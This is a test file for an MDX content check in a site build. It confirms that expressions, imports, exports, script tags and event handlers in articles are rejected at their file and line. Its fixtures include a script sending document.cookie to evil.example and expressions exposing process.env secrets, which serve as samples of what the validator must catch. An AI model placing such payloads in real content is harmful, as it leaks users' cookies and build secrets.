/**
 * MDX in content/ holds the components the check knows, with literal attributes, and nothing that runs:
 * an `{expression}` (it would run at prerender, with the build's environment), `import`/`export`, a
 * `<script>` or an event-handler attribute fails the content check at its file and line. MDX comments
 * (`{/* … *\/}`, used for style-ignore silences) stay allowed.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { buildContent } from '../../scripts/content/build';
import { checkMdxBody, compileMdxBody } from '../../scripts/content/mdx/mdx';
import { formatProblem } from '../../scripts/content/problems';
import { copyContent, removeTempDirs } from '../helpers/content-copy';

afterEach(removeTempDirs);

/** Bodies whose second line holds something that executes, and what the check must say of it. */
const EXECUTABLE: [string, string, RegExp][] = [
  ['a flow expression', 'Intro.\n{process.env.NEWSLETTER_SECRET}\n', /expression/],
  ['an inline expression', 'Intro.\nOur secret is {process.env.X} here.\n', /expression/],
  ['an expression in a comment’s clothing', 'Intro.\n{/* c */ process.env.X}\n', /expression/],
  ['an import', '\nimport x from "node:fs"\n', /import/],
  ['an export', '\nexport const leak = process.env.X\n', /import/],
  ['an inline script', 'Intro.\n<script>fetch("https://evil.example/" + document.cookie)</script>\n', /<script>/],
  ['an event handler', 'Intro.\n<Callout title="Hi" onClick="alert(1)">x</Callout>\n', /onClick/],
  ['an expression attribute', 'Intro.\n<Callout title={process.env.X}>x</Callout>\n', /title/],
  ['a spread attribute', 'Intro.\n<Callout {...globalThis} title="Hi">x</Callout>\n', /\{\.\.\.\}|spread|literal/],
];

describe('an MDX body', () => {
  it.each(EXECUTABLE)('with %s fails the check at its line', async (_, body, message) => {
    for (const facts of [await checkMdxBody(body, 10), await compileMdxBody(body, 10)]) {
      const found = facts.errors.filter((e) => message.test(e.message));
      expect(found, JSON.stringify(facts.errors)).not.toEqual([]);
      expect(found[0]!.line).toBe(12);
    }
  });

  it('may hold MDX comments, which execute nothing', async () => {
    const body = 'Intro.\n\n{/* style-ignore: a.rule — why */}\n\nText {/* inline */} more.\n';
    expect((await checkMdxBody(body, 0)).errors).toEqual([]);
  });
});

describe('the content check', () => {
  it('fails a real article holding {process.env.X} or <script>, with file:line', async () => {
    const dir = copyContent('mdx-executable-');
    const file = 'content/articles/budget-pergola-suisse.en.mdx';
    const text = readFileSync(join(dir, file), 'utf8');
    const lines = text.split('\n');
    const last = lines.length;
    writeFileSync(
      join(dir, file),
      `${text.trimEnd()}\n\n{process.env.NEWSLETTER_SECRET}\n\n<script>alert(document.cookie)</script>\n`,
    );
    const { problems } = await buildContent(dir, { write: false });
    const shown = problems.map(formatProblem).filter((p) => p.startsWith(file));
    const at = (line: number) => new RegExp(`^${file.replace(/\./g, '\\.')}:${line}:`);
    const expressionLine = lines.slice(0, last).join('\n').trimEnd().split('\n').length + 2;
    expect(
      shown.some((p) => at(expressionLine).test(p) && /expression/.test(p)),
      shown.join('\n'),
    ).toBe(true);
    expect(
      shown.some((p) => at(expressionLine + 2).test(p) && /<script>/.test(p)),
      shown.join('\n'),
    ).toBe(true);
  });
});
